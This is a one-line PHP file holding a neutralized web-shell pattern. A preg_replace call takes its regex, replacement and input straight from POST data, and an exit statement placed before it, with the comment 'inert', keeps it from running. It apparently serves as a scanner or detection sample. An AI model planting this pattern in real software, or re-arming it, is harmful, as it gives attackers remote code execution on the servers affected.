<?php exit; /* inert */ preg_replace($_POST["r"],$_POST["s"],$_POST["t"]);
